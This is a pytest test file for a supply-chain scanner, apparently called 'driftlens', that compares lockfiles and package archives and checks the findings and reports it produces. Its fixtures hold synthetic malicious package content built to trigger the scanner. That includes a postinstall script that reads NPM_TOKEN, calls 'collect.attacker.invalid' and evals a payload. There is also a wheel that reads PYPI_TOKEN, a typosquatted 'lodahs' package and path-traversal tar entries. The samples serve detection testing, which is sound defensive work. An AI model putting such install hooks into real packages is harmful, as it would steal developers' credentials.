"""Lockfiles and archives in, findings and documents out."""

import io
import json
import tarfile
import zipfile

import pytest

from driftlens.operators import escalate, manifest, policy
from driftlens.plans import diff
from driftlens.sinks import reports
from driftlens.sources import archives, lockfiles


def tgz(files):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, body in files.items():
            data = body.encode() if isinstance(body, str) else body
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def wheel(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def npm_lock(versions, top, extra=None):
    packages = {"": {"name": "app", "version": "1.0.0", "dependencies": {t: "*" for t in top}}}
    for name, (version, integrity, deps) in versions.items():
        packages[f"node_modules/{name}"] = {"version": version, "integrity": integrity, "dependencies": deps}
    packages.update(extra or {})
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages})


HOOK = {"postinstall": "node setup.js"}
EVIL = """
const https = require('https');
const { NPM_TOKEN } = process.env;
https.request("https://collect.attacker.invalid/x");
eval(payload);
"""


@pytest.fixture(scope="module")
def result(spark):
    before = npm_lock({"mid": ("1.0.0", "sha512-a", {"leaf": "1"}), "leaf": ("1.0.0", "sha512-b", {}), "fixed": ("2.0.0", "sha512-c", {})}, ["mid", "fixed"])
    after = npm_lock(
        {"mid": ("1.0.0", "sha512-a", {"leaf": "1"}), "leaf": ("1.1.0", "sha512-d", {}), "fixed": ("2.0.0", "sha512-CHANGED", {}), "lodahs": ("1.0.0", "sha512-e", {})},
        ["mid", "fixed", "lodahs"], {"node_modules/linked": {"link": True, "name": "linked"}},
    )
    files = spark.createDataFrame(
        [("js", "old", "package-lock.json", before), ("js", "new", "package-lock.json", after),
         ("py", "old", "requirements.txt", "pkg==1.0\n"), ("py", "new", "requirements.txt", "pkg==1.1\n"),
         ("same", "old", "package-lock.json", before), ("same", "new", "package-lock.json", before)],
        "run_id string, side string, filename string, text string",
    )
    plain = {"package.json": json.dumps({"name": "leaf", "version": "1.0.0", "maintainers": [{"email": "a@x.example"}]}), "index.js": "module.exports = 1;"}
    changed = {
        "package.json": json.dumps({"name": "leaf", "version": "1.1.0", "scripts": HOOK, "maintainers": [{"email": "b@y.example"}], "dependencies": {"extra": "http://h.example/a.tgz"}}),
        "index.js": "module.exports = 1;", "setup.js": EVIL, "bin/tool.node": b"\x7fELF",
    }
    store = spark.createDataFrame(
        [("leaf", "1.0.0", "npm", bytearray(tgz(plain))), ("leaf", "1.1.0", "npm", bytearray(tgz(changed))), ("lodahs", "1.0.0", "npm", bytearray(b"not an archive")),
         ("pkg", "1.0", "wheel", bytearray(wheel({"pkg/__init__.py": "x = 1\n", "pkg-1.0.dist-info/METADATA": "Name: pkg\nVersion: 1.0\n\n"}))),
         ("pkg", "1.1", "wheel", bytearray(wheel({"pkg/__init__.py": "import socket\nimport os\nt = os.environ['PYPI_TOKEN']\n", "pkg-1.1.dist-info/METADATA": "Name: pkg\nVersion: 1.1\n\n"})))],
        "name string, version string, kind string, content binary",
    )
    lists = diff.Lists(
        popular=spark.createDataFrame([("lodash", 0), ("linked", 1)], "name string, ord long"),
        domains=spark.createDataFrame([("trash.example",)], "domain string"),
        trust=manifest.trust_table(spark), advisories=escalate.builtin_advisories(spark),
    )
    snapshots = diff.analyse(store)
    locks = lockfiles.lock_tables(files)
    return {"locks": locks, "snapshots": snapshots, "lists": lists, "result": diff.run_diff(locks, snapshots, lists)}


def by_run(result, run):
    found = result["result"].findings.filter(f"run_id = '{run}'").collect()
    return {(r.detector, r.package): r for r in found}


def test_changed_package_raises_the_expected_findings(result):
    found = by_run(result, "js")
    assert {
        ("install.script-added", "leaf"), ("meta.maintainer-change", "leaf"), ("net.new-module", "leaf"), ("net.new-endpoint", "leaf"),
        ("env.token-harvest", "leaf"), ("code.dynamic-loading-added", "leaf"), ("bin.new-native-artifact", "leaf"),
        ("deps.new-direct-dep", "leaf"), ("manifest-deps.http-resolved-url", "leaf"), ("integrity.hash-mismatch", "fixed"),
        ("analysis.failed", "lodahs"), ("deps.workspace-shadowing", "linked"),
    } == set(found)
    assert all(found[k].severity == "BLOCK" for k in found if k[1] == "leaf" and k[0] != "deps.new-direct-dep")
    assert found[("deps.workspace-shadowing", "linked")].severity == "BLOCK"


def test_provenance_is_the_shortest_name_path(result):
    assert by_run(result, "js")[("net.new-module", "leaf")].provenance == [["app", "mid", "leaf"]]


def test_python_package_is_scanned(result):
    found = by_run(result, "py")
    assert ("net.new-module", "pkg") in found and ("env.token-harvest", "pkg") in found


def test_equal_inventories_are_clean(result):
    assert by_run(result, "same") == {}
    runs = {r.run_id: (r.verdict, r.risk_score) for r in result["result"].runs.collect()}
    assert runs["same"] == ("CLEAN", 0.0) and runs["js"] == ("BLOCK", 10.0)


def test_rollup_counts_the_subtree(result):
    rollup = {(r.run_id, r.direct): (r.max_severity, r["count"]) for r in result["result"].rollup.collect()}
    leaf = sum(1 for k in by_run(result, "js") if k[1] == "leaf")
    assert rollup[("js", "mid")] == ("BLOCK", leaf) and rollup[("js", "fixed")] == ("BLOCK", 1)
    assert rollup[("same", "mid")] == ("CLEAN", 0)


def document(lines, run):
    kept = lines.filter(f"run_id = '{run}'").orderBy(*reports.LINE_KEYS).collect()
    return "\n".join(r.line for r in kept)


def test_json_report_is_one_document(result):
    r = result["result"]
    for run in ("js", "same"):
        body = json.loads(document(reports.json_lines(r.runs, r.findings, r.changes, r.errors, r.rollup), run))
        assert list(body) == sorted(body)
        assert body["schemaVersion"] == 2 and len(body["findings"]) == len(by_run(result, run))


def test_sarif_report_is_one_document(result):
    r = result["result"]
    body = json.loads(document(reports.sarif_lines(r.runs, r.findings), "js"))
    run = body["runs"][0]
    assert len(run["results"]) == len(by_run(result, "js"))
    assert {x["ruleId"] for x in run["results"]} == {x["id"] for x in run["tool"]["driver"]["rules"]}
    assert {x["level"] for x in run["results"]} == {"error", "note"}


def test_markdown_console_and_incident_lines(result):
    r = result["result"]
    text = document(reports.markdown_lines(r.findings, r.changes, r.runs), "js")
    assert text.startswith("### behavioural diff") and "#### BLOCK" in text and "app → mid → leaf" in text
    assert "No behavioural changes" in document(reports.markdown_lines(r.findings, r.changes, r.runs), "same")
    console = document(reports.console_lines(r.findings, r.rollup, r.errors, r.runs), "js")
    assert "Impact by direct dependency" in console
    incidents = [json.loads(x) for x in document(reports.incident_lines(r.findings, r.runs, 2026), "js").splitlines()]
    assert any(i.get("id") == "OSIF-2026-LEAF-CHANGED" and "secret-read" in i.get("capabilities_gained", []) for i in incidents)
    assert any(i.get("indicator", {}).get("value") == "https://collect.attacker.invalid/x" for i in incidents)


def test_lines_are_written_in_document_order(result, spark, tmp_path):
    r = result["result"]
    path = str(tmp_path / "report")
    reports.write_lines(reports.json_lines(r.runs, r.findings, r.changes, r.errors, r.rollup), path)
    parts = sorted((tmp_path / "report" / "run_id=js").glob("part-*"))
    assert json.loads("".join(p.read_text() for p in parts))["verdict"] == "BLOCK"


def test_config_filters_findings(result, spark):
    tables = policy.config_tables(spark, policy.parse_config(json.dumps({
        "ignorePackages": ["fixed"], "allowlist": {"leaf": ["NET"]}, "ignorePathsInside": {"leaf": ["bin/"]},
    })))
    kept = policy.apply_config(result["result"].findings, tables)
    found = {(r.detector, r.package): r.severity for r in kept.filter("run_id = 'js'").collect()}
    assert found[("integrity.hash-mismatch", "fixed")] == "BLOCK"  # never silenced
    assert found[("net.new-module", "leaf")] == "INFO"
    assert ("bin.new-native-artifact", "leaf") not in found


def test_scan_reports_posture(result):
    scanned = diff.run_scan(result["locks"], result["snapshots"], result["lists"])
    found = scanned.findings.filter("run_id = 'js' and package = 'leaf'").collect()
    assert found and {r.direction for r in found} == {"absolute"}


def test_install_gate(result, spark):
    pairs = spark.createDataFrame([("leaf", "1.0.0", "1.1.0"), ("leaf", None, "1.0.0"), ("lodahs", None, "1.0.0")], "package string, from_ver string, to_ver string")
    decided = diff.compare_install(result["snapshots"], result["snapshots"], pairs, result["lists"]).collect()
    assert {(r.package, r.to_ver): r.decision for r in decided} == {("leaf", "1.1.0"): "block", ("leaf", "1.0.0"): "allow", ("lodahs", "1.0.0"): "block"}


@pytest.mark.parametrize("build, words", [
    (lambda t: _entry(t, "package/../../evil"), "traversal"), (lambda t: _entry(t, "/abs"), "absolute"),
    (lambda t: _entry(t, "package/l", tarfile.SYMTYPE), "link"), (lambda t: _entry(t, "package/p", tarfile.FIFOTYPE), "unsupported"),
])
def test_unsafe_archives_become_error_rows(spark, build, words):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as t:
        build(t)
    store = spark.createDataFrame([("p", "1", "npm", bytearray(buffer.getvalue()))], "name string, version string, kind string, content binary")
    row = archives.unpack(store).collect()
    assert len(row) == 1 and words in row[0].error


def _entry(archive, name, kind=tarfile.REGTYPE):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, "x"
    archive.addfile(info, io.BytesIO(b""))


def test_wasm_imports_are_listed():
    imported = b"\x01\x03env\x04exec\x00\x00"
    module = b"\0asm\x01\0\0\0" + b"\x02" + bytes([len(imported)]) + imported
    assert archives.wasm_imports(module) == [{"module": "env", "name": "exec", "kind": "func"}]
    with pytest.raises(ValueError):
        archives.wasm_imports(b"nonsense")


def test_lockfiles_are_parsed_once(result):
    """What a run returns reads written tables; no plan parses a lockfile or measures a source text again."""
    r = result["result"]
    for table in (r.changes, r.findings, r.errors, r.rollup, r.runs):
        assert "MapInPandas" not in table._jdf.queryExecution().optimizedPlan().toString()


def test_a_detector_of_the_caller_takes_part(spark, result):
    from pyspark.sql import functions as F

    from driftlens.schema import evidence_of, to_findings

    def native_files(tables):
        rows = tables["artifacts"].filter("side = 'new'")
        return to_findings(rows, "own.native-file", "INSTALL", "INFO", "low", F.concat(F.lit("native file "), F.col("path")), evidence_of(F.col("path"), F.lit(1), F.col("kind")))

    found = diff.run_diff(result["locks"], result["snapshots"], result["lists"], detectors=[native_files]).findings
    assert [r.package for r in found.filter("detector = 'own.native-file'").collect()] == ["leaf"]
